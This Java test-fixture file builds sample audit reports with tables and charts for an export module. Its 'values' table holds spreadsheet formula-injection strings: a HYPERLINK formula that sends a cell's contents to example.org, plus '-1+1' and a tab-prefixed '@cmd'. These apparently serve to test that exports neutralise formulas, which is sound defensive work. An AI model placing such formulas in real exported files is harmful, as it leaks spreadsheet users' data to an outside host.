package org.practiceaudit.reporting.exports;

import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import org.practiceaudit.reporting.documents.Document;
import org.practiceaudit.reporting.documents.Document.Amount;
import org.practiceaudit.reporting.documents.Document.Chart;
import org.practiceaudit.reporting.documents.Document.Column;
import org.practiceaudit.reporting.documents.Document.Column.Kind;
import org.practiceaudit.reporting.documents.Document.Day;
import org.practiceaudit.reporting.documents.Document.Moment;
import org.practiceaudit.reporting.documents.Document.Nothing;
import org.practiceaudit.reporting.documents.Document.Part;
import org.practiceaudit.reporting.documents.Document.Share;
import org.practiceaudit.reporting.documents.Document.Suppressed;
import org.practiceaudit.reporting.documents.Document.Table;
import org.practiceaudit.reporting.documents.Document.Text;
import org.practiceaudit.reporting.documents.Document.Value;
import org.practiceaudit.reporting.documents.Document.Words;

/** Documents with everything that a report may have in it, some of it hostile. */
final class Samples {
    static final Instant KNOWN = Instant.parse("2026-10-01T09:31:00Z");
    static final String FORMULA = "=HYPERLINK(\"http://example.org?\"&A1)";

    private Samples() {}

    static Document everything() {
        return new Document(
                "Board report <September> & \"October\"",
                "What the audits of September found.",
                Optional.of(KNOWN),
                List.of(
                        new Part(
                                "Findings",
                                List.of(new Text("Plans were late, and \u2018voice\u2019 was heard."), values())),
                        new Part("Over time", List.of(run(), bars())),
                        new Part("Nothing", List.of(new Table("Empty", List.of(words("Audit")), List.of())))));
    }

    /** One table of every kind of value, and text that a spreadsheet would take for a formula. */
    static Table values() {
        return new Table(
                "Findings: by team/line [of] enquiry, which is long",
                List.of(
                        words("Team"),
                        new Column("Audits", Kind.NUMBER),
                        new Column("Good or better", Kind.SHARE),
                        new Column("Due", Kind.DAY),
                        new Column("Confirmed", Kind.MOMENT),
                        words("Remark")),
                List.of(
                        row(new Words("north"), new Words(FORMULA)),
                        row(new Words("-1+1"), new Words("\t@cmd")),
                        List.of(
                                new Words("east, \"lower\"\nfloor\u0001"),
                                new Suppressed(),
                                new Suppressed(),
                                new Nothing(),
                                new Nothing(),
                                new Words(""))));
    }

    static Document oneTable() {
        return new Document(
                "Tracker", "Every audit.", Optional.of(KNOWN), List.of(new Part("Audits", List.of(values()))));
    }

    private static List<Value> row(Value team, Value remark) {
        return List.of(
                team,
                new Amount(-12),
                new Share(0.3456),
                new Day(LocalDate.of(2026, 9, 30)),
                new Moment(Instant.parse("2026-09-30T15:05:00Z")),
                remark);
    }

    static Chart run() {
        return new Chart(
                "Good or better",
                "Share of audits good or better by month; the last month is above the upper limit.",
                Chart.Shape.RUN,
                List.of(
                        new Chart.Point("July", 0.4, false),
                        new Chart.Point("August", 0.45, false),
                        new Chart.Point("September", 0.9, true)),
                Optional.of(new Chart.Limits(0.5, 0.2, 0.8)),
                data());
    }

    private static Chart bars() {
        return new Chart(
                "Audits",
                "Audits by month.",
                Chart.Shape.BARS,
                List.of(new Chart.Point("July <1>", 20, false), new Chart.Point("August", 18, true)),
                Optional.empty(),
                new Table(
                        "Audits by month",
                        List.of(words("Month"), new Column("Audits", Kind.NUMBER)),
                        List.of(List.of(new Words("July"), new Amount(20)))));
    }

    private static Table data() {
        return new Table(
                "Good or better by month",
                List.of(words("Month"), new Column("Share", Kind.SHARE)),
                List.of(List.of(new Words("July"), new Share(0.4)), List.of(new Words("September"), new Share(0.9))));
    }

    private static Column words(String heading) {
        return new Column(heading, Kind.WORDS);
    }
}
